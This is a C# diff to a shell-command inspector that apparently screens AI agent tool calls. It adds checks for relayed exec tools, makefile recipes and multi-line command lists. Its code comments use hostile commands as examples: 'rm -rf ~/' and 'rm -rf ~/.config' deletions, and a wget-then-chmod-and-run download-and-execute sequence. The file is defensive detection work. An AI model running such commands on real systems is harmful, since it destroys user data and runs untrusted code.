@@ -19,13 +19,15 @@ public sealed class ShellCommandInspector : IInspector
             return;
         }
 
-        var exec = ArgumentRoles.IsExecTool(context.ToolName);
+        var exec = ArgumentRoles.IsExecTool(context.ToolName) || RelaysExecTool(context.Strings.Items);
         var runsCode = exec || ArgumentRoles.RunsCode(context.ToolName);
         var storesText = !runsCode && StoresText(context.ToolName);
         var items = context.Strings.Items;
         ShellAnalyzer? analyzer = null;
         List<string>? argv = null;
         string? argvKey = null;
+        List<string>? lines = null;
+        string? linesKey = null;
         for (var i = 0; i < items.Count; i++)
         {
             var s = items[i];
@@ -46,6 +48,14 @@ public sealed class ShellCommandInspector : IInspector
 
                 // A code tool's "program" or "source" may be a command line as well as code (a REPL that shells out, a shell tool).
                 InspectUnambiguousShape(s, findings, code: true);
+                continue;
+            }
+
+            if (MakefileRecipes.IsBuildFileKey(s.Key) && MakefileRecipes.Of(s.Decoded) is { Length: > 0 } recipes)
+            {
+                // make_target {"makefile": "setup:\n\trm -rf ~/.config\n"}: make runs each recipe line in a shell.
+                analyzer ??= new ShellAnalyzer(findings);
+                analyzer.AnalyzeText(recipes, 0);
                 continue;
             }
 
@@ -115,6 +125,19 @@ public sealed class ShellCommandInspector : IInspector
 
             if (isCommand && argv is null && s.Decoded.Contains(' ', StringComparison.Ordinal))
             {
+                // {"commands": ["cd /tmp", "wget -q http://…/x -O x", "chmod +x x && ./x"]}: the lines of one list run in turn, so what
+                // one line downloads, the next may run. Kept to be judged together as one script.
+                if (!string.Equals(s.Key, linesKey, StringComparison.Ordinal))
+                {
+                    FlushLines(analyzer, lines);
+                    linesKey = s.Key;
+                }
+
+                if ((lines ??= []).Count < MaxListLines)
+                {
+                    lines.Add(s.Decoded);
+                }
+
                 continue; // a whole command line, not a program name starting an argv
             }
 
@@ -149,7 +172,43 @@ public sealed class ShellCommandInspector : IInspector
         if (analyzer is not null)
         {
             Flush(analyzer, argv);
+            FlushLines(analyzer, lines);
         }
+    }
+
+    /// <summary>Keys with which an agent framework names the tool a step calls (<c>{"action": "Bash", "action_input": "…"}</c>).</summary>
+    private static readonly System.Collections.Frozen.FrozenSet<string> RelayedToolKeys = System.Collections.Frozen.FrozenSet.Create(
+        StringComparer.OrdinalIgnoreCase, "action", "tool", "tool_name", "toolname", "function", "function_name", "action_name", "recipient_name");
+
+    /// <summary>
+    /// True when the call relays a step to a tool that runs commands (<c>agent_step {"action": "Bash", "action_input": "rm -rf ~/"}</c>): its
+    /// inputs are that tool's command, whatever the relaying tool is called.
+    /// </summary>
+    private static bool RelaysExecTool(IReadOnlyList<Preflight.ArgumentString> items)
+    {
+        foreach (var s in items)
+        {
+            if (RelayedToolKeys.Contains(s.Key) && IsOneWord(s.Decoded) && ArgumentRoles.IsExecTool(s.Decoded))
+            {
+                return true;
+            }
+        }
+
+        return false;
+    }
+
+    /// <summary>Most lines of one command list judged together (bounded work on a crafted list).</summary>
+    private const int MaxListLines = 32;
+
+    /// <summary>Judges the lines of one command list as one script, when there are several (each was judged alone already).</summary>
+    private static void FlushLines(ShellAnalyzer analyzer, List<string>? lines)
+    {
+        if (lines is { Count: > 1 })
+        {
+            analyzer.AnalyzeText(string.Join('\n', lines), 0);
+        }
+
+        lines?.Clear();
     }
 
     /// <summary>
